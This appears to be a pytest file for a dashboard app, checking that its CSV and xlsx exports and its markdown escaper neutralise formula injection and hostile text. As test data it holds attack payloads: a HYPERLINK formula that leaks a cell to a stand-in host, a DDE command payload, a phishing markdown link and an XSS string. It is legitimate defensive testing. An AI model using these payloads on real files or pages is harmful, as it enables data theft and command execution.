"""Nothing from a user, a rules file or a link leaves as a formula (issue 14, item 3): every CSV and
xlsx writer, each with a hostile name, and the markdown escape for values from the address.

The hostile names are those of the attack in issue 14: an area named like an Excel ``HYPERLINK``
that leaks the neighbouring cell, an indicator named like a DDE payload, a user name added through
``accounts.add_user``. In CSV a cell that Excel would run starts with ``'``; in xlsx it is the exact
text in a text cell (``data_type`` ``"s"``), never a formula (``"f"``).
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from conftest import APP_PASSWORD, ROOT, SMALL_AREAS, SMALL_INDICATORS, write_small_rules
from openpyxl import Workbook, load_workbook

from dashboard.cli import main
from dashboard.engine import evaluate
from dashboard.reports.cells import append_row, csv_bytes, neutralise, safe_cell, sheet_title

LEAK = '=HYPERLINK("https://x.example/?leak="&A2,"查看详情")'
AREA = '=HYPERLINK("https://x.example/?leak="&A2,"甲区")'
INDICATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
COLON_AREA = "乙区:东*[新]?"
LONG_AREA = "丙县" * 20  # 40 characters: more than a sheet title may hold
DOMAIN = "健康:卫生/保健"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _yaml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A copy of the small rule set whose names are hostile; loaded."""
    from dashboard.rules import load_rules

    areas = (
        SMALL_AREAS.replace("name_zh: 甲区", f"name_zh: {_yaml(AREA)}")
        .replace("name_zh: 乙区", f"name_zh: {_yaml(COLON_AREA)}")
        .replace("name_zh: 丙县", f"name_zh: {_yaml(LONG_AREA)}")
    )
    indicators = SMALL_INDICATORS.replace("name_zh: 毛入园率", f"name_zh: {_yaml(INDICATOR)}").replace(
        "name_zh: 健康,", f"name_zh: {_yaml(DOMAIN)},"
    )
    root = write_small_rules(tmp_path_factory.mktemp("hostile") / "rules", indicators=indicators)
    (root / "areas.yaml").write_text(areas, encoding="utf-8")
    (root / "units.yaml").write_text(  # the commands want the units too
        'units:\n  - {code: office, name_zh: 办公室, name_en: The Office, level: city, area: "100000"}\n',
        encoding="utf-8",
    )
    loaded = load_rules(root)
    assert loaded.ok, [p.format() for p in loaded.problems]
    assert loaded.areas["100001"].name_zh == AREA and loaded.indicators["T02"].name_zh == INDICATOR
    return loaded


def _values(rules) -> pd.DataFrame:
    rows = [
        (a, ind, y, v) for a in ("100001", "100002") for ind, v in (("T01", 9.0), ("T02", 97.0)) for y in (2020, 2024)
    ]
    return pd.DataFrame(rows, columns=["area", "indicator", "year", "value"])


def _cells(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text)))


def _assert_no_live_formula(rows: list[list[str]]) -> None:
    """No CSV cell starts like a formula unless it is a plain number (the one rule of ``safe_cell``)."""
    for row in rows:
        for cell in row:
            if cell.startswith(RISKY):
                float(cell.rstrip("%"))  # raises for anything but a number such as -1.5


def _assert_text_cells(book) -> None:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


# ------------------------------------------------------------------------------ the neutraliser
@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LEAK, "'" + LEAK),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),  # a number written as text is a number, not a formula
        ("+3", "+3"),
        ("-12%", "-12%"),
        ("-", "'-"),
        ("孕产妇死亡率", "孕产妇死亡率"),
        ("a=b", "a=b"),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_neutralise_text_headers_and_mixed_columns_but_not_numbers():
    frame = pd.DataFrame(
        {
            "name": [LEAK, "甲区", None],
            "mixed": [-2.0, "=1+1", "-3"],
            "number": [-1, 2, 3],
            "text": pd.Series(["@x", pd.NA, "y"], dtype="string"),
            "kind": pd.Categorical(["=a", "b", "=a"]),
        }
    ).rename(columns={"text": "=header"})
    out = neutralise(frame)
    assert out["name"].tolist()[:2] == ["'" + LEAK, "甲区"] and out["name"].isna().iloc[2]
    assert out["mixed"].tolist() == [-2.0, "'=1+1", "-3"]
    assert out["number"].tolist() == [-1, 2, 3] and out["number"].dtype == frame["number"].dtype
    assert out["'=header"].tolist()[0] == "'@x"
    assert out["kind"].tolist() == ["'=a", "b", "'=a"]
    assert frame["name"].iloc[0] == LEAK  # the caller's table is not changed


# ------------------------------------------------------------------------------ CSV writers
def _leak_user_signs_in(engine) -> None:
    """The formula-named user, created unless an earlier test made it (``Store.clear`` keeps users,
    so on the shared PostgreSQL database the account outlives one test), then signed in."""
    from dashboard.access import accounts

    if LEAK not in set(accounts.list_users(engine)["name"]):
        accounts.add_user(engine, LEAK, APP_PASSWORD, "viewer", by="admin")
    accounts.sign_in(engine, LEAK, APP_PASSWORD)


def test_audit_download_neutralises_a_formula_user_name(store):
    from dashboard.store import audit
    from dashboard.views.upload import audit_table

    _leak_user_signs_in(store.engine)
    shown = audit_table(audit.entries(store.engine), "zh")
    assert (shown["用户"] == LEAK).any()  # the page shows the name as it is
    data = csv_bytes(shown)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = _cells(data)
    _assert_no_live_formula(rows)
    signed_in = next(r for r in rows if r[2] == "登录")
    assert signed_in[1] == "'" + LEAK and signed_in[3] == "'" + LEAK
    added = next(r for r in rows if r[2] == audit.action_label("user_add"))
    assert added[1] == "admin" and added[3] == "'" + LEAK


def test_audit_and_user_list_commands_neutralise_a_formula_user_name(store, capsys):
    _leak_user_signs_in(store.engine)
    for command in (["audit"], ["user", "list"]):
        assert main(command) == 0
        rows = _cells(capsys.readouterr().out)
        _assert_no_live_formula(rows)
        assert "'" + LEAK in {cell for row in rows for cell in row}, command


def test_indicator_download_neutralises_a_hostile_area_name(hostile):
    from dashboard.views.indicator import indicator_values

    ev = evaluate(hostile, _values(hostile))
    values = indicator_values(ev, hostile, "T02", ["100001", "100002"], "zh")
    rows = _cells(csv_bytes(values))
    _assert_no_live_formula(rows)
    assert list(dict.fromkeys(r[0] for r in rows[1:])) == ["'" + AREA, COLON_AREA]


def test_evaluate_and_indicators_commands_neutralise_names_from_the_rules(hostile, tmp_path, capsys):
    root = str(hostile.root)
    assert main(["indicators", "--rules", root]) == 0
    rows = _cells(capsys.readouterr().out)
    _assert_no_live_formula(rows)
    t02 = next(r for r in rows if r[0] == "T02")
    assert "'" + INDICATOR in t02 and DOMAIN in t02

    # JSON is read by programs, not spreadsheets: the name as it is.
    assert main(["indicators", "--rules", root, "--format", "json"]) == 0
    assert next(r for r in json.loads(capsys.readouterr().out) if r["code"] == "T02")["name_zh"] == INDICATOR

    data = tmp_path / "values.csv"
    data.write_bytes(
        csv_bytes(
            _values(hostile).rename(columns={"area": "区县", "indicator": "指标", "year": "年份", "value": "数值"})
        )
    )
    out = tmp_path / "evaluated.csv"
    assert main(["evaluate", "--rules", root, "--data", str(data), "--year", "2024", "--out", str(out)]) == 0
    rows = _cells(out.read_bytes())
    _assert_no_live_formula(rows)
    header = rows[0]
    names = {r[header.index("area_code")]: r[header.index("area_name")] for r in rows[1:]}
    assert names["100001"] == "'" + AREA and names["100002"] == COLON_AREA


def test_export_command_neutralises_names_and_notes(store, hostile, tmp_path, monkeypatch):
    values = _values(hostile)
    values["note"] = [LEAK, "+1+1", None, "说明", None, None, None, None]
    store.commit_rows(values, uploader=LEAK, file_name="x.csv", sha256="0" * 64)
    monkeypatch.setenv("DASHBOARD_RULES_DIR", str(hostile.root))
    target = tmp_path / "export.csv"
    assert main(["export", "--out", str(target)]) == 0
    rows = _cells(target.read_bytes())
    _assert_no_live_formula(rows)
    assert {r[1] for r in rows[1:]} == {"'" + AREA, COLON_AREA}
    assert "'" + INDICATOR in {r[3] for r in rows[1:]}
    assert {"'" + LEAK, "'+1+1", "说明"} <= {r[6] for r in rows[1:]}


def test_csv_template_neutralises_names_from_the_rules(hostile):
    from dashboard.reports.templates import make_template

    rows = _cells(make_template(hostile, "100001", "csv"))
    _assert_no_live_formula(rows)
    assert {r[0] for r in rows[1:]} == {"'" + AREA}
    assert "'" + INDICATOR in {r[3] for r in rows[1:]}


TASK_TITLE = '=HYPERLINK("https://x.example/?leak="&A2,"稳控妇幼健康重点指标")'


@pytest.fixture(scope="module")
def hostile_tasks(tmp_path_factory):
    """The shipped rules with task WP2020-05 titled as a formula: (rules, task catalogue)."""
    import shutil

    from dashboard.rules import catalogue_for, load_rules

    root = tmp_path_factory.mktemp("tasks") / "rules"
    shutil.copytree(ROOT / "rules", root)
    plan = root / "tasks" / "2020_city_workplan.yaml"
    text = plan.read_text(encoding="utf-8")
    assert text.count('title: "稳控妇幼健康重点指标"') == 1
    plan.write_text(text.replace('title: "稳控妇幼健康重点指标"', f"title: {_yaml(TASK_TITLE)}"), encoding="utf-8")
    rules = load_rules(root)
    cat = catalogue_for(rules)
    assert cat.tasks["WP2020-05"].title == TASK_TITLE
    return rules, cat


def test_task_template_csv_and_xlsx_keep_titles_and_notes_from_running(hostile_tasks):
    from dashboard.intake.task_progress import read_task_progress
    from dashboard.reports.templates import make_task_template

    rules, cat = hostile_tasks
    current = pd.DataFrame(
        {"task": ["WP2020-01"], "year": [2020], "target_no": [0], "status": ["done"], "reached": [None], "note": [LEAK]}
    )
    rows = _cells(make_task_template(cat, 2020, "csv", current=current))
    _assert_no_live_formula(rows)
    assert rows[0][:2] == ["任务代码", "任务名称"]
    assert "'" + TASK_TITLE in {r[1] for r in rows[1:]} and "'" + LEAK in {r[9] for r in rows[1:]}

    data = make_task_template(cat, 2020, "xlsx", current=current)
    book = load_workbook(io.BytesIO(data))
    _assert_text_cells(book)
    sheet = book.active
    assert sheet.title == "2020年任务进展"
    assert TASK_TITLE in [c.value for c in sheet["B"]] and LEAK in [c.value for c in sheet["J"]]
    (choice,) = sheet.data_validations.dataValidation  # our own list of the four statuses, on 状态
    assert choice.formula1 == '"未开始,推进中,已完成,滞后"' and str(choice.sqref).startswith("E2:E")
    report = read_task_progress(data, "tasks.xlsx", cat, rules)  # the sheet reads back
    assert report.ok, [p.format() for p in report.problems]
    done = report.rows.loc[report.rows["task"] == "WP2020-01"].iloc[0]
    assert (done["status"], done["note"]) == ("done", LEAK)


# ------------------------------------------------------------------------------ xlsx writers
def test_xlsx_template_keeps_names_as_text_and_reads_back(hostile):
    from dashboard.intake.indicator_values import read_upload
    from dashboard.reports.templates import make_template, template_frame

    book = load_workbook(io.BytesIO(make_template(hostile, "100001", "xlsx")))
    _assert_text_cells(book)
    sheet = book.active
    assert sheet["A2"].value == AREA and sheet["A2"].data_type == "s"  # the exact text, shown not run
    assert INDICATOR in [c.value for c in sheet["D"]]
    # Filled in and uploaded again, the text still names its area and indicator.
    frame = template_frame(hostile, "100001", _values(hostile))
    buf = io.BytesIO()
    filled = Workbook()
    for row in [list(frame.columns), *frame.itertuples(index=False)]:
        append_row(filled.active, list(row))
    filled.save(buf)
    report = read_upload(buf.getvalue(), "filled.xlsx", hostile)
    assert report.ok, [p.format() for p in report.problems]
    assert set(report.rows["area"]) == {"100001"} and set(report.rows["indicator"]) == {"T01", "T02"}


@pytest.mark.parametrize(
    ("area", "title"),
    [("100002", "乙区_东__新__"), ("100003", "丙县" * 15 + "丙")],
)
def test_xlsx_template_of_an_area_whose_name_is_no_sheet_title(hostile, area, title):
    from dashboard.reports.templates import make_template

    book = load_workbook(io.BytesIO(make_template(hostile, area, "xlsx")))
    assert book.sheetnames == [title] and len(title) <= 31
    assert book.active["A2"].value == hostile.areas[area].name_zh  # the cells keep the full name


def test_xlsx_report_has_no_formula_and_valid_sheet_titles(hostile):
    from dashboard.reports.documents import build_xlsx

    obs = _values(hostile)
    book = load_workbook(io.BytesIO(build_xlsx(hostile, evaluate(hostile, obs), "100001", 2024, observations=obs)))
    _assert_text_cells(book)
    assert "健康_卫生_保健" in book.sheetnames
    texts = [c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    assert AREA in texts and INDICATOR in texts  # the exact names, as text


def test_append_row_writes_text_never_a_formula_and_drops_what_xml_cannot_hold(tmp_path):
    book = Workbook()
    append_row(book.active, [LEAK, "=1+1", -1.5, None, "铃\x07声", "=", "+SUM(A1)"])
    path = tmp_path / "x.xlsx"
    book.save(path)  # a control character would make openpyxl refuse the whole workbook
    row = [(c.value, c.data_type) for c in load_workbook(path).active[1]]
    assert row == [
        (LEAK, "s"),
        ("=1+1", "s"),
        (-1.5, "n"),
        (None, "n"),
        ("铃\ufffd声", "s"),
        ("=", "s"),
        ("+SUM(A1)", "s"),
    ]


@pytest.mark.parametrize(
    ("name", "taken", "title"),
    [
        ("甲区:东/西\\南?北*[中]", (), "甲区_东_西_南_北__中_"),
        ("x" * 40, (), "x" * 31),
        ("x" * 40, ("x" * 31,), "x" * 28 + "(2)"),
        ("健康", ("健康", "健康(2)"), "健康(3)"),
        ("Raw", ("raw",), "Raw(2)"),  # Excel compares titles ignoring case
        ("History", (), "History(2)"),  # Excel keeps this name for itself
        ("'引号'", (), "引号"),
        ("", (), "Sheet"),
    ],
)
def test_sheet_title(name, taken, title):
    assert sheet_title(name, taken) == title
    book = Workbook()
    book.active.title = title  # openpyxl accepts it


# ------------------------------------------------------------------------------ values from the address
J = "\u2060"  # the word joiner md_escape puts inside an address (invisible)


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("[点此重新登录](https://evil.example/login)", f"\\[点此重新登录\\](https{J}\\://evil.example/login)"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)\\>"),
        (":red[警告] :material/home:", "\\:red\\[警告\\] \\:material/home:"),
        ("见 www.evil.example 或 a.b@evil.example", f"见 www{J}.evil.example 或 a.b{J}@evil.example"),
        ("**粗体** `代码` # 标题", "\\*\\*粗体\\*\\* \\`代码\\` \\# 标题"),
        ("WP2020-05", "WP2020-05"),
    ],
)
def test_md_escape(text, escaped):
    from dashboard.app.widgets import md_escape

    assert md_escape(text) == escaped
    assert md_escape(text).replace(J, "").replace("\\", "") == text.replace("\\", "")  # nothing else changes
